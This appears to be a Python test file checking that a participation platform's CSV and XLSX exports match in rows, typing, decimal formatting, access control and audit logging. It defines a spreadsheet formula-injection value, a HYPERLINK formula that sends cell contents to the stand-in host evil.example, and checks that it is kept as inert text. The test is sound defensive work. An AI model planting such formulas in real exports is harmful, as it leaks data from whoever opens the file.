"""XLSX beside every CSV export (issue 10, point 9): typed cells read back with openpyxl, the same
rows as the CSV, the same access, one charset in every CSV's Content-Type, no float noise."""
import datetime as dt
from decimal import Decimal

import sqlalchemy as sa

from participation.auth.models import ProcessRoleKind
from participation.catalogue.models import (
    IdeaMeasureLink,
    LinkKind,
    Measure,
    MeasureOrigin,
    MeasureQuantity,
    MeasureType,
    QuantityKind,
    TimeHorizon,
)
from participation.database import utcnow
from participation.lottery.models import Invitation, LotteryAccess
from participation.spreadsheet import XLSX_MIMETYPE, csv_bytes, decimal_text, decimal_value, xlsx_bytes
from tests.xlsx_helpers import assert_same_rows, csv_rows, xlsx_cells, xlsx_rows

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'


def test_cells_are_typed_and_text_is_never_a_formula():
    when = dt.datetime(2026, 3, 5, 14, 30, 12, tzinfo=dt.UTC)
    rows = [["07743", 2029.9999999999998, Decimal("17.40"), 42, dt.date(2027, 1, 31), when, HOSTILE, "+49 3641",
             "-Weg", "@SUM(A1)", None, "0815"]]
    data = xlsx_bytes(["PLZ", "Wert", "Anteil", "Anzahl", "Datum", "Zeit", "Titel", "Telefon", "Straße", "At",
                       "Leer", "Code"], rows)
    header, row = xlsx_cells(data)
    assert [c.value for c in header][:2] == ["PLZ", "Wert"]
    assert row[0].value == "07743" and row[0].data_type == "s"
    assert row[1].value == 2030 and row[1].data_type == "n"
    assert row[2].value == 17.4 and row[2].data_type == "n" and "," in row[2].number_format
    assert row[3].value == 42 and row[3].data_type == "n"
    assert row[4].value == dt.datetime(2027, 1, 31) and row[4].number_format == "DD.MM.YYYY"
    assert row[5].value == dt.datetime(2026, 3, 5, 14, 30, 12) and row[5].number_format.startswith("DD.MM.YYYY")
    assert [c.value for c in row[6:10]] == [HOSTILE, "+49 3641", "-Weg", "@SUM(A1)"]
    assert all(c.data_type == "s" for c in row[6:10])  # text, never a formula
    assert row[10].value is None and row[11].value == "0815"
    xlsx_rows(data)  # no formula cells anywhere
    text = csv_bytes(["PLZ", "Wert"], rows).decode("utf-8-sig")
    assert "07743;2030;17,4;42;2027-01-31;" in text and "'=HYPERLINK" in text and "'@SUM" in text


def test_decimals_have_no_floating_point_noise():
    assert decimal_text(2029.9999999999998) == "2030"
    assert decimal_text(0.1 + 0.2) == "0,3"
    assert decimal_text(1e-07) == "0,0000001" and decimal_text(-0.25) == "-0,25"
    assert decimal_text(12345678.9) == "12345678,9" and decimal_text(2_500_000.0) == "2500000"
    assert decimal_text(3.666666, places=2) == "3,67" and decimal_text(None) == ""
    assert decimal_value(-0.0) == 0 and str(decimal_value(-0.0)) == "0"


def _catalogue(db, make_process, make_idea):
    process = make_process()
    idea = make_idea(process, title=HOSTILE)
    measure = Measure(process_id=process.id, sector_id=process.sectors[0].id, code="MOB-01",
                      title="=1+1 Radweg", type=MeasureType.TECHNICAL, time_horizon=TimeHorizon.MEDIUM,
                      origin=MeasureOrigin.CITIZEN_IDEAS, is_public=True, published_at=utcnow(),
                      planned_start=dt.date(2027, 1, 1), progress_percent=40, score=2029.9999999999998,
                      lead_actor="07743 Stadtwerke")
    measure.quantities = [MeasureQuantity(kind=QuantityKind.GHG_SAVINGS, value=0.1 + 0.2, low=1e-07,
                                          high=2029.9999999999998, method="-Schätzung", source="")]
    db.session.add(measure)
    db.session.flush()
    db.session.add(IdeaMeasureLink(idea_id=idea.id, measure_id=measure.id, kind=LinkKind.ADOPTED,
                                   rationale="@wichtig"))
    db.session.commit()
    return process


def test_catalogue_xlsx_holds_the_rows_of_the_csv_typed(db, client, make_process, make_idea):
    process = _catalogue(db, make_process, make_idea)
    for csv_url, xlsx_url in ((f"/processes/{process.slug}/measures.csv", f"/processes/{process.slug}/measures.xlsx"),
                              (f"/processes/{process.slug}/measure-ideas.csv",
                               f"/processes/{process.slug}/measure-ideas.xlsx")):
        as_csv, as_xlsx = client.get(csv_url), client.get(xlsx_url)
        assert as_csv.status_code == as_xlsx.status_code == 200
        assert as_csv.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert as_xlsx.headers["Content-Type"] == XLSX_MIMETYPE
        assert ".xlsx" in as_xlsx.headers["Content-Disposition"]
        assert_same_rows(as_csv.data, as_xlsx.data)
    header, *rows = xlsx_rows(client.get(f"/processes/{process.slug}/measures.xlsx").data)
    row = dict(zip(header, rows[0]))
    assert row["Titel"] == "=1+1 Radweg" and row["Akteure: Verantwortung"] == "07743 Stadtwerke"
    assert row["Gewichtete Punktzahl"] == 2030 and row["Fortschritt (%)"] == 40
    assert row["Geplanter Beginn"] == dt.datetime(2027, 1, 1)
    assert "2029,9999" not in client.get(f"/processes/{process.slug}/measures.csv").get_data(as_text=True)
    links_header, *links = xlsx_rows(client.get(f"/processes/{process.slug}/measure-ideas.xlsx").data)
    link = dict(zip(links_header, links[0]))
    assert link["Idee"] == HOSTILE and isinstance(link["Idee-Nr."], int) and link["Begründung"] == "@wichtig"


def test_audit_xlsx_has_the_access_of_the_csv_and_is_logged(db, make_process, make_user, make_client, make_idea):
    process = make_process()
    staff = make_user(roles=[(process, ProcessRoleKind.STAFF)])
    moderator = make_user(roles=[(process, ProcessRoleKind.MODERATOR)])
    office = make_client()
    office.login(staff.email)
    make_idea(process, title=HOSTILE)
    office.get(f"/processes/{process.slug}/audit.csv")  # writes an audit.export entry
    base = f"/processes/{process.slug}/audit"
    as_csv, as_xlsx = office.get(f"{base}.csv"), office.get(f"{base}.xlsx")
    assert as_csv.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert as_xlsx.status_code == 200 and as_xlsx.headers["Content-Type"] == XLSX_MIMETYPE
    assert as_xlsx.headers["Cache-Control"] == as_csv.headers["Cache-Control"]
    assert "no-store" in as_xlsx.headers["Cache-Control"]
    from_csv, from_xlsx = csv_rows(as_csv.data), xlsx_rows(as_xlsx.data)
    assert from_xlsx[0] == from_csv[0] and len(from_xlsx) == len(from_csv) + 1  # one more audit.export
    assert all(isinstance(r[0], int) and isinstance(r[1], dt.datetime) for r in from_xlsx[1:])
    logged = db.session.scalars(sa.select(LotteryAccess.subject).where(LotteryAccess.action == "export_audit")
                                ).all()
    assert any(s.startswith(f"audit-{process.slug}.xlsx") for s in logged)
    anonymous, resident, other_moderator = make_client(), make_client(), make_client()
    resident.login(make_user().email)
    other_moderator.login(moderator.email)
    for who in (anonymous, resident, other_moderator):
        assert who.get(f"{base}.xlsx").status_code == who.get(f"{base}.csv").status_code != 200


def test_mail_merge_xlsx_keeps_postcodes_as_text(db, lottery, make_client, make_user):
    draw = lottery.draw(letters=12)
    office = make_client()
    office.login(lottery.staff.email)
    base = f"/processes/{lottery.process.slug}/lottery/draws/{draw.number}/mail-merge"
    as_csv, as_xlsx = office.get(f"{base}.csv"), office.get(f"{base}.xlsx")
    assert as_csv.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert as_xlsx.status_code == 200 and as_xlsx.headers["Content-Type"] == XLSX_MIMETYPE
    assert as_xlsx.headers["Cache-Control"] == "no-store"
    assert_same_rows(as_csv.data, as_xlsx.data)
    header, *rows = xlsx_rows(as_xlsx.data)
    postcodes = [r[header.index("PLZ")] for r in rows]
    assert len(rows) == db.session.scalar(sa.select(sa.func.count(Invitation.id))
                                          .where(Invitation.draw_id == draw.id))
    assert all(isinstance(p, str) and len(p) == 5 for p in postcodes) and any(p.startswith("0") for p in postcodes)
    resident = make_client()
    resident.login(make_user().email)
    assert resident.get(f"{base}.xlsx").status_code == resident.get(f"{base}.csv").status_code == 403
    assert make_client().get(f"{base}.xlsx").status_code == make_client().get(f"{base}.csv").status_code
